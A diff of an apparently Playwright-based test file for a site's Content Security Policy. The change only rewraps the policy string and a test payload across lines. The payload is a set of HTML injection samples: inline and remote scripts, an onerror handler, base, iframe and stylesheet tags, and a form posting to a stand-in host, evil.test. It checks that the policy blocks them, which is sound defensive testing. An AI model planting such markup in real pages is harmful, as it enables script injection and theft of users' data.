@@ -67,7 +67,10 @@ const EVERYWHERE = {
 };
 /** The policy with its one changing part taken out. */
 const POLICY =
-  "default-src 'none'; script-src 'nonce-…' 'strict-dynamic'; style-src 'self' 'nonce-…'; img-src 'self' data:; font-src 'self'; connect-src 'self'; form-action 'self'; frame-src 'self'; frame-ancestors 'none'; base-uri 'none'; object-src 'none'; manifest-src 'self'; require-trusted-types-for 'script'; trusted-types default";
+  "default-src 'none'; script-src 'nonce-…' 'strict-dynamic'; style-src 'self' 'nonce-…'; " +
+  "img-src 'self' data:; font-src 'self'; connect-src 'self'; form-action 'self'; frame-src " +
+  "'self'; frame-ancestors 'none'; base-uri 'none'; object-src 'none'; manifest-src 'self'; " +
+  "require-trusted-types-for 'script'; trusted-types default";
 
 test('every page, also a missing one, has the whole policy with a fresh nonce on every script', async ({
   sitDown,
@@ -290,8 +293,11 @@ test('what a stranger managed to write into a page does not run and reaches nobo
     return route.abort();
   });
   const injected =
-    '<script>window.owned = "inline"</script><script src="https://evil.test/x.js"></script><img src="https://evil.test/p.png" onerror="window.owned = \'handler\'">' +
-    '<base href="https://evil.test/"><iframe src="https://evil.test/f"></iframe><link rel="stylesheet" href="https://evil.test/s.css"><form id="steal" action="https://evil.test/s" method="post"></form>';
+    '<script>window.owned = "inline"</script><script src="https://evil.test/x.js"></script>' +
+    '<img src="https://evil.test/p.png" onerror="window.owned = \'handler\'">' +
+    '<base href="https://evil.test/"><iframe src="https://evil.test/f"></iframe>' +
+    '<link rel="stylesheet" href="https://evil.test/s.css">' +
+    '<form id="steal" action="https://evil.test/s" method="post"></form>';
   await page.route('**/payouts', async (route) => {
     const answer = await route.fetch();
     await route.fulfill({
